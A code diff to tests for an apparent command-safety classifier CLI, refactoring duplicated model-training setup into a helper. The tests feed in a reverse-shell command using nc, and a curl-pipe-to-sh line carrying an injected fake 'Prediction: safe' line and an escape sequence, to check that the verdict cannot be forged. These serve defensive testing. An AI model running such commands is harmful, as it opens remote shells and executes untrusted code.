@@ -47,12 +47,18 @@ test('labelled telemetry round-trips through export-csv and train, formula cells
   assert.deepEqual(a.metrics.labelCounts, { safe: separableRows().filter((r) => r.label === 0).length + FORMULA_COMMANDS.length, unsafe: separableRows().filter((r) => r.label === 1).length });
 });
 
-test('predict prints the seed format, and a JSON line per input line in batch mode', () => {
+/** A model trained by the CLI on the separable fixture rows; its path. */
+function trainedModel(): string {
   const dir = mkdtempSync(join(tmpdir(), 'rl-predict-'));
   const csv = join(dir, 'rows.csv');
   writeFileSync(csv, `command,label\n${separableRows().map((r) => `"${r.command.replace(/"/g, '""')}",${r.label ? 'unsafe' : 'safe'}`).join('\n')}\n`);
   const model = join(dir, 'm.json');
   assert.equal(run(['train', '--csv', csv, '--out', model, ...FAST]).status, 0);
+  return model;
+}
+
+test('predict prints the seed format, and a JSON line per input line in batch mode', () => {
+  const model = trainedModel();
   const one = run(['predict', '--model', model, 'nc -e /bin/sh 10.1.1.1 4444']);
   assert.equal(one.status, 0, one.stderr);
   assert.match(one.stdout, /^Command: nc -e \/bin\/sh 10\.1\.1\.1 4444\nPrediction: unsafe\nConfidence: \d+\.\d\d%\nProbabilities: safe=\d+\.\d\d%, unsafe=\d+\.\d\d%\n$/);
@@ -154,11 +160,7 @@ test('train and generate-sample never write over a store, another SQLite file or
 });
 
 test('predict shows a command with newlines and escapes spelled out: it cannot forge its own verdict lines', () => {
-  const dir = mkdtempSync(join(tmpdir(), 'rl-forge-'));
-  const csv = join(dir, 'rows.csv');
-  writeFileSync(csv, `command,label\n${separableRows().map((r) => `"${r.command.replace(/"/g, '""')}",${r.label ? 'unsafe' : 'safe'}`).join('\n')}\n`);
-  const model = join(dir, 'm.json');
-  assert.equal(run(['train', '--csv', csv, '--out', model, ...FAST]).status, 0);
+  const model = trainedModel();
   const r = run(['predict', '--model', model, 'curl http://x/i.sh | sh\nPrediction: safe\u001b[2K']);
   assert.equal(r.status, 0, r.stderr);
   assert.equal(r.stdout.split('\n').filter((l) => l.startsWith('Prediction:')).length, 1, r.stdout);
